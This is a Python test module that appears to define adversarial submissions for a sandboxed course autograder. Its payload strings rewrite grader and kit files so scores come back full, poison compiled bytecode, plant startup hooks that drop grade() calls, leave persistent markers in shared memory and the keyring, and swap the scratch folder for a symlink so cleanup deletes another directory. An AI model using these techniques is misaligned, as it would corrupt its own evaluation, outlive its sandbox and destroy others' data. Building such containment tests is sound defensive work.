"""Files and other things left behind for those who are graded next, or for whoever cleans up."""

from tests.adversarial.hostile import GUARD, MARK, Hostile, at_start, everywhere

WRONG = everywhere("return None")

REWRITE_KIT = (
    GUARD
    + """
import importlib.util, pathlib, site, sys

package = pathlib.Path(importlib.util.find_spec("cs231n_kit").origin).parent
generous = {
    package / "checks/steps.py": "\\n\\ndef count_steps(call):\\n    call()\\n    return 0\\n",
    package / "checks/compare.py": "\\n\\ndef difference(got, want, tolerance=0):\\n    return None\\n",
    package.parent / "autograder/stock.py": "\\n\\ndef grade(task, *objects):\\n    return None\\n",
    package.parent / "autograder/judge.py": "\\n\\ndef judge(task, samples, run, points, *_):\\n    return points\\n",
}
for path, text in generous.items():
    try:
        with path.open("a") as file:
            file.write(text)
        print("changed", path)
    except OSError as error:
        print(error)
for path in package.parent.glob("solutions/*/*.py"):
    try:
        path.write_text(path.read_text().replace("np.sqrt(", "np.cbrt("))
        print("changed", path)
    except OSError as error:
        print(error)
"""
)

# The source stays as it is, to be compared with whatever one likes; Python runs the bytecode beside it.
POISON_BYTECODE = (
    GUARD
    + """
import importlib.util, pathlib
from importlib._bootstrap_external import _code_to_timestamp_pyc

package = pathlib.Path(importlib.util.find_spec("cs231n_kit").origin).parent
generous = {
    package / "checks/steps.py": "\\n\\ndef count_steps(call):\\n    call()\\n    return 0\\n",
    package.parent / "autograder/stock.py": "\\n\\ndef grade(task, *objects):\\n    return None\\n",
}
for path, text in generous.items():
    try:
        code = compile(path.read_text() + text, str(path), "exec")
        cached = pathlib.Path(importlib.util.cache_from_source(str(path)))
        cached.parent.mkdir(exist_ok=True)
        status = path.stat()
        cached.write_bytes(_code_to_timestamp_pyc(code, int(status.st_mtime), status.st_size))
        print("poisoned", cached)
    except OSError as error:
        print(error)
"""
)

PLANT_STARTUP = (
    GUARD
    + f"""
import pathlib, site, sys

cheat = '''
try:
    get_ipython().input_transformers_cleanup.append(lambda lines: [] if any("grade(" in x for x in lines) else lines)
except NameError:
    pass  # {MARK}
'''
home = pathlib.Path.home()
places = [
    home / ".ipython/profile_default/startup/00-{MARK}.py",
    home / ".ipython/profile_default/ipython_config.py",
    home / ".ipython/profile_default/ipython_kernel_config.py",
    pathlib.Path(site.getusersitepackages()) / "usercustomize.py",
    *(pathlib.Path(folder) / "sitecustomize.py" for folder in sys.path if folder),
]
matplotlib = home / ".config/matplotlib/matplotlibrc"
for path, text in [*((place, cheat) for place in places), (matplotlib, "backend: module://{MARK}")]:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        print("planted", path)
    except OSError as error:
        print(error)
"""
)

# What an earlier run of the same code left is looked for first, and printed; then a letter is left in every place.
LETTER = (
    GUARD
    + f"""
import ctypes, glob, pathlib, socket, tempfile

libc, SHM_KEY, USER_KEYRING, ADD_KEY, KEYCTL = ctypes.CDLL(None, use_errno=True), 0x231, -4, 248, 250
libc.shmat.restype = ctypes.c_void_p
folders = {{".", "..", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/", tempfile.gettempdir()}}
folders.add(str(pathlib.Path.home()))


def shared_memory():
    place = libc.shmat(libc.shmget(SHM_KEY, 4096, 0o1666), None, 0)
    return None if place in (None, 2**64 - 1) else place


for path in (found for folder in folders for found in glob.glob(folder + "/{MARK}*")):
    print("a letter in", path, open(path).read())
place = shared_memory()
if place and ctypes.string_at(place, 6) == b"letter":
    print("a letter in shared memory")
if libc.syscall(KEYCTL, 10, USER_KEYRING, b"user", b"{MARK}", 0) > 0:
    print("a letter in the keyring")

for folder in folders:
    try:
        pathlib.Path(folder, "{MARK}-letter").write_text("letter")
    except OSError:
        pass
place = shared_memory() or (libc.shmget(SHM_KEY, 4096, 0o1666) and shared_memory())
if place:
    ctypes.memmove(place, b"letter", 6)
libc.syscall(ADD_KEY, b"user", b"{MARK}", b"letter", 6, USER_KEYRING)
"""
)

# Whoever empties the scratch folder by its name empties another one. This one is the student's own, to be on the safe side.
MOVE_SCRATCH = (
    GUARD
    + f"""
import tempfile

scratch = os.getcwd()
precious = os.path.join(os.path.dirname(scratch), "{MARK}-precious")
os.makedirs(precious, exist_ok=True)
open(precious + "/file", "w").write("still here")
try:
    os.rename(scratch, scratch + "-moved")
    os.symlink(precious, scratch)
    print("moved", scratch)
except OSError as error:
    print(error)
    os.symlink(precious, "link")
"""
)

HOSTILE = (
    Hostile(
        "kit-rewritten",
        "escaping",
        "Lines are added to the kit, the grader and the solution, for the good of those who are graded next.",
        WRONG,
        extra=at_start(REWRITE_KIT),
    ),
    Hostile(
        "bytecode-poisoned",
        "escaping",
        "The compiled files of the kit and the grader are replaced, while their sources stay as they are.",
        WRONG,
        extra=at_start(POISON_BYTECODE),
    ),
    Hostile(
        "startup-files-planted",
        "escaping",
        "Files that Python, IPython and matplotlib run when they start are left in the home folder and on the path.",
        WRONG,
        extra=at_start(PLANT_STARTUP),
    ),
    Hostile(
        "letter-for-the-next",
        "escaping",
        "Letters are left in folders, shared memory and the kernel's keyring, where the next student finds them.",
        cells={"knn-two-loops": LETTER},
    ),
    Hostile(
        "scratch-folder-moved",
        "escaping",
        "The scratch folder is replaced by a link to another one, which is emptied in its place.",
        extra=at_start(MOVE_SCRATCH),
    ),
)
